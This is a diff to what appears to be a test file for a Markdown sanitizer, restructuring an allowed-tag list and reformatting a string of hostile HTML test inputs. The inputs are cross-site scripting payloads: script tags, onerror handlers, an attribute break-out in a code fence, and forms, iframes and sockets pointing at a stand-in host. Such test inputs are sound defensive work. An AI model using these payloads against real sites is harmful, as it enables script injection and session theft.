@@ -22,7 +22,8 @@ HOSTILE = """<script>window.hacked = 1</script>
 <form id="playground" action="https://evil.test/"><input name="csrfmiddlewaretoken"><button>Run</button></form>
 <div id="notices"></div><div data-socket="wss://evil.test/"></div><p data-run="0" aria-busy="true" data-stop-run>x</p>
 <style>body { display: none }</style><link rel="stylesheet" href="https://evil.test/x.css"><base href="https://evil.test/">
-<iframe src="https://evil.test/"></iframe><object data="https://evil.test/"></object><meta http-equiv="refresh" content="0">
+<iframe src="https://evil.test/"></iframe>
+<object data="https://evil.test/"></object><meta http-equiv="refresh" content="0">
 
 ```html" onmouseover="window.hacked=1
 <script>window.hacked = 1</script>
@@ -33,10 +34,29 @@ HOSTILE = """<script>window.hacked = 1</script>
 UNCLOSED = "Before\n\n```python\nprint('<script>window.hacked = 1</script>')\n<img src=x onerror=window.hacked=1"
 
 # What an answer's Markdown may become, nothing else; `figure` and `button` are ours, around code.
-ALLOWED = set(
-    "p br strong em code pre ul ol li a blockquote h1 h2 h3 h4 h5 h6 table thead tbody tr th td hr span div del s figure "
-    "figcaption button svg use".split()
-)
+TEXT = {
+    "p",
+    "br",
+    "hr",
+    "strong",
+    "em",
+    "del",
+    "s",
+    "a",
+    "blockquote",
+    "h1",
+    "h2",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "ul",
+    "ol",
+    "li",
+}
+TABLES = {"table", "thead", "tbody", "tr", "th", "td"}
+CODE = {"code", "pre", "span", "div", "figure", "figcaption", "button", "svg", "use"}
+ALLOWED = TEXT | TABLES | CODE
 
 
 def check_inert(playground: Playground, answer: Answer) -> None:
